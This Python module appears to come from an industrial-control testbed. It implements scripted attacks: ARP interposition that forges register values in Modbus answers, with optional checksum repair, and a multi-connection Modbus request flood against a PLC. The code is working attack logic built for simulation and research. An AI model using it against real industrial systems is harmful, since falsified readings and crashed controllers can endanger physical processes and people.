"""Attacks on the wire itself: forged answers and floods.

ATT&CK for ICS T0830, T0856 and T0814.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterator, Mapping
from typing import Annotated, Literal

from pydantic import Field

from devices.poller import checksum, checksum_address
from devices.registers import Table
from scenarios.attack import Attack, Seconds, Step
from scenarios.steps.commands import lacks_tags
from testbed import site as sites
from testbed.network import Packet
from testbed.site import Name, Site, TagName


class Spoof(Step):
    """Interpose between two assets by ARP and put ``values`` (engineering units) into Modbus answers of ``plc``.

    ``fix_checksum`` also recomputes the plain checksum that a PLC may publish: the difference between somebody who
    knows the device and somebody who does not.
    """

    action: Literal["spoof"]
    reader: Name
    plc: Name
    values: dict[TagName, float]
    lasting: Seconds
    fix_checksum: bool = False

    def lacks(self, site: Site) -> Iterator[str]:
        yield from lacks_tags(site, self.plc, self.values)

    async def carry_out(self, attack: Attack) -> None:
        await spoof(attack, self)


async def spoof(attack: Attack, step: Spoof) -> None:
    """T0856 by T0830: forge readings in the answers of one PLC to one reader."""
    world = attack.world
    plc, reader = world.network.hosts[step.plc], world.network.hosts[step.reader]
    shown = {name: _always(value) for name, value in step.values.items()}
    forger = Forger(world.site.controllers()[step.plc], shown, plc.address, fix_checksum=step.fix_checksum)
    placed = attack.host.interpose(reader.address, plc.address, forger)
    if not placed:
        attack.note(step, "refused", target=step.reader, reason="ARP replies refused")
        return
    attack.note(step, "interposed", target=step.reader)
    end = world.loop.time() + step.lasting
    told = 0
    while world.loop.time() < end:
        await asyncio.sleep(5.0)
        if forger.forged > told:
            if not told:
                attack.note(step, "done", target=step.reader, tag=",".join(step.values))
            told = forger.forged
        elif not told and forger.unreadable:
            attack.note(step, "refused", target=step.reader, reason="traffic cannot be read")
            break
    attack.host.withdraw(reader.address, plc.address)
    attack.note(step, "withdrawn", target=step.reader)


def _always(value: float) -> Callable[[float], float]:
    return lambda _: value


class Forger:
    """Changes register values in Modbus answers that pass; remembers requests to know what an answer answers.

    ``values`` has, for each tag, what turns the true value into the one that is shown (engineering units).
    """

    def __init__(
        self,
        asset: sites.Controller,
        values: Mapping[str, Callable[[float], float]],
        plc_address: str,
        *,
        fix_checksum: bool = False,
    ) -> None:
        self.plc_address = plc_address
        self.fix_checksum = fix_checksum
        self.checksum_at = checksum_address(asset.tags.values())
        self.values = {
            (Table(asset.tags[name].table), asset.tags[name].address): (asset.tags[name], change)
            for name, change in values.items()
        }
        self.asked: dict[tuple[int, int], tuple[int, int, int]] = {}
        self.forged = 0
        self.unreadable = 0

    def __call__(self, packet: Packet) -> bytes:
        payload = bytearray(packet.payload)
        at = 0
        while at + 8 <= len(payload):
            if payload[at + 2 : at + 4] != b"\0\0":
                self.unreadable += 1
                break
            size = 6 + int.from_bytes(payload[at + 4 : at + 6], "big")
            if at + size > len(payload):
                break
            self._frame(packet, payload, at, size)
            at += size
        return bytes(payload)

    def _frame(self, packet: Packet, payload: bytearray, at: int, size: int) -> None:
        transaction = int.from_bytes(payload[at : at + 2], "big")
        function = payload[at + 7]
        if packet.target == self.plc_address:
            if function in (3, 4) and size >= 12:
                address = int.from_bytes(payload[at + 8 : at + 10], "big")
                count = int.from_bytes(payload[at + 10 : at + 12], "big")
                self.asked[(packet.source_port, transaction)] = (function, address, count)
            return
        asked = self.asked.pop((packet.target_port, transaction), None)
        if asked is None or function != asked[0] or size != 9 + 2 * asked[2]:
            return
        _, start, count = asked
        table = Table.HOLDING if function == 3 else Table.INPUT
        body = at + 9
        changed = False
        for (where, address), (tag, change) in self.values.items():
            if where is table and start <= address and address + tag.words <= start + count:
                place = body + 2 * (address - start)
                words = [
                    int.from_bytes(payload[i : i + 2], "big") for i in range(place, place + 2 * tag.words, 2)
                ]
                for word in tag.encode(change(tag.decode(words))):
                    payload[place : place + 2] = word.to_bytes(2, "big")
                    place += 2
                changed = True
        if not changed:
            return
        self.forged += 1
        if self.fix_checksum and table is Table.INPUT and start == 0 and count - 1 == self.checksum_at:
            registers = [
                int.from_bytes(payload[body + 2 * i : body + 2 * i + 2], "big") for i in range(count - 1)
            ]
            payload[body + 2 * (count - 1) : body + 2 * count] = checksum(registers).to_bytes(2, "big")


class Flood(Step):
    """Send Modbus reads to a PLC over ``connections`` connections, ``rate`` requests a second in all."""

    action: Literal["flood"]
    plc: Name
    rate: Seconds
    connections: Annotated[int, Field(ge=1, le=64)] = 4
    lasting: Seconds

    def lacks(self, site: Site) -> Iterator[str]:
        yield from lacks_tags(site, self.plc, ())

    async def carry_out(self, attack: Attack) -> None:
        await flood(attack, self)


#: A flood sends its requests in bursts so many seconds apart, several in one segment, as flooding tools do.
BURST = 0.02
#: How often a flood looks whether it still gets through (s).
LOOK = 10.0


class _Hose(asyncio.Protocol):
    """One connection of a flood: counts the bytes that come back and never waits for them."""

    def __init__(self) -> None:
        self.transport: asyncio.Transport | None = None
        self.returned = 0

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport

    def connection_lost(self, exc: Exception | None) -> None:
        self.transport = None

    def data_received(self, data: bytes) -> None:
        self.returned += len(data)


async def flood(attack: Attack, step: Flood) -> None:
    """T0814: more requests than the PLC's processor has time for."""
    asset = attack.world.site.controllers()[step.plc]
    loop = attack.world.loop
    end = loop.time() + step.lasting
    # Read one input register: transaction, protocol 0, six more bytes, unit, function 4, address 0, count 1.
    request = bytes((0, 1, 0, 0, 0, 6, asset.unit_id, 4, 0, 0, 0, 1))
    each = step.rate * attack.strength * BURST / step.connections
    hoses: list[_Hose] = []

    async def one(number: int) -> None:
        await asyncio.sleep(number * BURST / step.connections)
        owed = 0.0
        while loop.time() < end:
            try:
                _, hose = await loop.create_connection(_Hose, asset.address, asset.port)
            except OSError:
                await asyncio.sleep(1.0)
                continue
            assert isinstance(hose, _Hose)
            hoses.append(hose)
            while hose.transport is not None and loop.time() < end:
                owed += each
                hose.transport.write(request * int(owed))
                owed -= int(owed)
                await asyncio.sleep(BURST)
            if hose.transport is not None:
                hose.transport.abort()

    async def look() -> None:
        before = 0
        while loop.time() + LOOK <= end:
            await asyncio.sleep(LOOK)
            returned = sum(hose.returned for hose in hoses)
            attack.note(step, "done" if returned > before else "refused", target=step.plc)
            before = returned

    attack.note(step, "flooding", target=step.plc, rate=step.rate * attack.strength)
    await asyncio.gather(look(), *(one(number) for number in range(step.connections)))
